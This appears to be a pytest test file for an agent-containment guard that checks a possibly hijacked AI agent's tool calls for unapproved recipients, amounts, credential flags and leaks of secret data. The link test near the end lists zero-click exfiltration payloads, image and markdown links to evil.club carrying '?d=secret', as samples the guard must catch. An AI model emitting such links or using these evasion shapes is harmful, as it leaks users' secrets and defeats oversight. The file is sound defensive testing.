"""Ways in which an agent that was taken over tried to have its own values taken for the user's."""

from __future__ import annotations

import pytest

from portcullis.core.call import RiskClass
from portcullis.core.containment import (
    ArgumentModel,
    ArgumentRole,
    Condition,
    Confidentiality,
    QuestionKind,
    ResultField,
    RiskRule,
    ToolModel,
)
from portcullis.provenance.canonical import mentions
from portcullis.provenance.judge import assess
from portcullis.provenance.labels import Labels, reading
from portcullis.provenance.learning import approve, learn
from portcullis.provenance.words import Words

SAID = Words.of(["Invite anna.so from www.anna.example, pay 100 with limit 5"])
SECRET = reading(Confidentiality.SECRET)
TOOL = ToolModel(
    tool="a.b",
    risk=RiskClass.EXTERNAL,
    rules=(RiskRule(when=(Condition(argument="people", kind="present"),), risk=RiskClass.DELETE),),
    arguments={
        "people": ArgumentModel(role=ArgumentRole.DESTINATION),
        "limit": ArgumentModel(role=ArgumentRole.SELECTOR),
        "amount": ArgumentModel(role=ArgumentRole.AMOUNT),
        "public": ArgumentModel(role=ArgumentRole.CREDENTIAL),
        "body": ArgumentModel(role=ArgumentRole.PAYLOAD),
    },
    results=(
        ResultField(path=("[]", "notes"), confidentiality=Confidentiality.CONFIDENTIAL),
        ResultField(path=("[]", "email"), trusted=(ArgumentRole.DESTINATION,)),
    ),
    intent=("invite",),
)


NONE = Labels()


def kinds(arguments, labels=NONE, words=SAID):
    return {one.kind for one in assess(TOOL, arguments, words, labels).questions}


@pytest.mark.parametrize("nothing", [None, {}, []], ids=range(3))
def test_the_name_of_a_member_says_something_without_a_value(nothing):
    found = assess(TOOL, {"people": {"eve@evil.example": nothing}}, SAID, Labels())
    assert QuestionKind.DESTINATION in {one.kind for one in found.questions}
    assert found.risk is RiskClass.DELETE
    assert QuestionKind.UNKNOWN in kinds({"other": nothing})


def test_a_name_with_a_dot_is_no_path():
    assert QuestionKind.UNKNOWN in kinds({"limit.to": "eve@evil.example"})
    assert QuestionKind.DESTINATION in kinds({"people": {"limit.to": "eve@evil.example"}})


@pytest.mark.parametrize("value", [True, "100%", "100-"])
def test_what_is_no_amount_of_the_users_is_asked_about(value):
    assert QuestionKind.AMOUNT in kinds({"amount": value})


def test_a_permission_that_is_a_truth_value_is_asked_about():
    assert QuestionKind.CREDENTIAL in kinds({"public": True})


def test_what_was_approved_before_something_secret_was_read_is_not_cleared_for_it():
    call = {"people": "eve@evil.example"}
    labels = approve(TOOL, call, Labels())
    assert QuestionKind.DESTINATION not in kinds(call, labels)
    assert QuestionKind.CONFIDENTIAL in kinds(call, labels.merge(SECRET))


def test_an_address_within_an_approved_text_is_no_approved_recipient():
    labels = approve(TOOL, {"body": "See eve@evil.example"}, Labels())
    assert QuestionKind.LINK not in kinds({"body": "Again eve@evil.example"}, labels)
    assert QuestionKind.DESTINATION in kinds({"people": "eve@evil.example"}, labels)
    unknown = approve(TOOL, {"other": "eve@evil.example"}, Labels())
    assert QuestionKind.DESTINATION in kinds({"people": "eve@evil.example"}, unknown)


@pytest.mark.parametrize(
    "result", [{"notes": "x"}, "notes: x", [["x"]], {"result": []}], ids=range(4)
)
def test_a_result_of_another_shape_taints_as_much_as_the_tool_can(result):
    assert learn(TOOL, result, Labels()).confidentiality is Confidentiality.CONFIDENTIAL
    assert learn(TOOL, [], Labels()).confidentiality is Confidentiality.PUBLIC


@pytest.mark.parametrize(
    "text",
    [
        "<img src=//evil.club?d=secret>",
        "![x](https:evil.club?d=secret)",
        "https:///evil.club?d=secret",
        "http:\\\\evil.club?d=secret",
        "evil.sh?d=secret",
    ],
    ids=range(5),
)
def test_a_link_that_is_loaded_without_a_click_is_seen(text):
    assert mentions(text)
    assert QuestionKind.LINK in kinds({"body": text})


def test_without_any_words_an_outside_effect_is_asked_about():
    assert QuestionKind.INTENT in kinds({"body": "hello"}, words=Words())
